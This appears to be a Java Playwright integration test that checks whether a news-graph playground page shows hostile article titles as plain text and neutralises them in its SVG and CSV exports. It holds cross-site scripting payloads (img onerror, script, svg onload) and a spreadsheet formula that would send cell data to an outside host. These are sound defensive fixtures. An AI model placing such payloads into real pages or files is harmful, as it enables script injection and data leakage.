package dev.newsgraph.playground;

import java.io.IOException;
import java.nio.file.Files;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.Download;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.AriaRole;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;

import dev.newsgraph.importing.GraphImport;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

/** The page shows the content of documents as text, even if it contains markup. */
@BrowserTest
class PlaygroundHostileIT {

	private static final String IMAGE = "<img src=x onerror=alert(1)>";

	private static final String FORMULA = "=HYPERLINK(\"https://tests.example/?\"&A1)";

	/** The maximum length in a document. */
	private static final String LONG = "Longest ".repeat(500).strip();

	/** A longer text that the page receives in the response. */
	private static final String LONGER = "Longest ".repeat(1_250).strip();

	private static final String ARABIC = "\u202Eمرحبا بالعالم 👩‍👩‍👧‍👦 \u200Fשלום";

	private static final String PROVIDER = "<script>alert(2)</script>";

	private static final String TOPIC = "<svg onload=alert(3)>";

	private static final String QUERY = """
			{ articles(where: { topics: { some: { name: { eq: "%s" } } } }, orderBy: [{ field: TITLE }], first: 20) {
			  edges { node { title excerpt webUrl publishedDateTime heat provider { name } topics { name }
			    related(first: 5) { edges { position node { title } } } } } } }""".formatted(TOPIC);

	private final List<String> dialogs = new CopyOnWriteArrayList<>();

	@BeforeAll
	static void load(@Autowired GraphImport imports) {
		hostile("image", IMAGE);
		hostile("formula", FORMULA);
		hostile("long", LONG);
		hostile("arabic", ARABIC.replace("\u202E", "\\u202E"));
		imports.run();
	}

	private static void hostile(String name, String title) {
		SampleSeeds.write("hostile/%s.md".formatted(name), SampleSeeds.article("hostile-" + name, quoted(title), """
				excerpt: %s
				provider:
				  name: "%s"
				  domain: %s.tests.example
				topics: ["%s"]
				related:
				  - title: %s
				    webUrl: "%shostile-image"
				    type: article
				  - title: "javascript"
				    webUrl: "%shostile-other"
				    type: article""".formatted(quoted(title), PROVIDER, name, TOPIC, quoted(IMAGE), SampleSeeds.ADDRESS,
				SampleSeeds.ADDRESS)));
	}

	private static String quoted(String text) {
		return '"' + text.replace("\"", "\\\"") + '"';
	}

	@Test
	void titlesAreTextInEveryView(BrowserVisit visit) throws IOException {
		PlaygroundUser user = open(visit, "network");
		Locator network = user.assertShown("Network");
		for (String title : List.of(IMAGE, FORMULA, "Longest Longest", "مرحبا")) {
			network.getByRole(AriaRole.SEARCHBOX).fill(title);
			network.getByRole(AriaRole.TREEITEM).filter(new Locator.FilterOptions().setHasText(title)).first().click();
			assertThat(user.region("What is selected")).containsText(title);
		}
		network.getByRole(AriaRole.SEARCHBOX).fill("");
		network.getByRole(AriaRole.IMG).first().hover();
		assertHarmless(user);
		PlaygroundUser.button(network, "Export").click();
		Download svg = user.tab().waitForDownload(() -> PlaygroundUser.button(network, "SVG").click());
		assertThat(Files.readString(svg.path())).contains("&#60;svg onload")
			.doesNotContain("<img", "<script", "<svg onload");

		Locator table = user.show("Table");
		assertThat(PlaygroundUser.named(table, AriaRole.ROW, IMAGE)).isVisible();
		PlaygroundUser.named(table, AriaRole.ROW, "Longest").getByRole(AriaRole.BUTTON).last().click();
		PlaygroundUser.named(table, AriaRole.ROW, IMAGE).getByRole(AriaRole.ROWHEADER).click();
		assertHarmless(user);

		assertThat(user.show("JSON")).containsText(IMAGE);
		assertHarmless(user);

		Locator time = user.show("Time");
		time.getByLabel("Colour by").selectOption("title");
		time.getByRole(AriaRole.IMG).hover();
		PlaygroundUser.button(time, "Series").click();
		assertThat(time.getByText(IMAGE).first()).isVisible();
		assertHarmless(user);
		PlaygroundUser.button(time, "As a table").click();
		assertThat(time.getByRole(AriaRole.TABLE)).containsText(IMAGE);
		assertHarmless(user);

		user.answered("""
				{ coverage(where: { topic: { name: { eq: "%s" } } }, first: 20) {
				  edges { node { provider { name } topic { name } articleCount } } } }""".formatted(TOPIC));
		Locator coverage = user.show("Coverage");
		assertThat(coverage.getByRole(AriaRole.ROWHEADER).first()).containsText(PROVIDER);
		coverage.getByRole(AriaRole.GRIDCELL).first().click();
		user.assertShown("Table");
		assertHarmless(user);
	}

	@Test
	void aLongTitleIsCutAndTheWholeIsThereWhenAskedFor(BrowserVisit visit) {
		PlaygroundUser user = open(visit, "network");
		Locator network = user.assertShown("Network");
		network.getByRole(AriaRole.SEARCHBOX).fill("Longest");
		network.getByRole(AriaRole.TREEITEM).last().click();
		Locator facts = user.region("What is selected");
		Locator heading = facts.getByRole(AriaRole.HEADING).first();
		assertThat(heading.innerText()).hasSizeLessThan(400);
		PlaygroundUser.button(heading, "Show all").click();
		assertThat(heading).containsText(LONGER);
		assertHarmless(user);
	}

	@Test
	void aSpreadsheetTakesNoTitleForAFormula(BrowserVisit visit) throws IOException {
		PlaygroundUser user = open(visit, "table");
		Locator table = user.assertShown("Table");
		Download saved = user.tab().waitForDownload(() -> PlaygroundUser.button(table, "CSV").click());
		List<String> titles = CsvText.lines(Files.readString(saved.path())).stream().map(List::getFirst).toList();
		assertThat(titles).containsExactlyInAnyOrder("title", IMAGE, "'" + FORMULA, LONGER, ARABIC);
	}

	private PlaygroundUser open(BrowserVisit visit, String view) {
		visit.page().onDialog((dialog) -> {
			this.dialogs.add(dialog.message());
			dialog.dismiss();
		});
		visit.page().route("**/graphql", (route) -> {
			APIResponse answer = route.fetch();
			route.fulfill(new Route.FulfillOptions().setResponse(answer).setBody(answer.text().replace(LONG, LONGER)));
		});
		return PlaygroundUser.follow(visit, QUERY, view).showQuery();
	}

	/**
	 * Checks that no element was created from a text, that no script has run, and that
	 * the next query is answered.
	 */
	private void assertHarmless(PlaygroundUser user) {
		assertThat(user.tab().locator("img[src=x], [onerror], [onload], script:not([src])")).hasCount(0);
		assertThat(this.dialogs).isEmpty();
		assertThat(user.button("Execute query (Ctrl-Enter)")).isEnabled();
	}

}
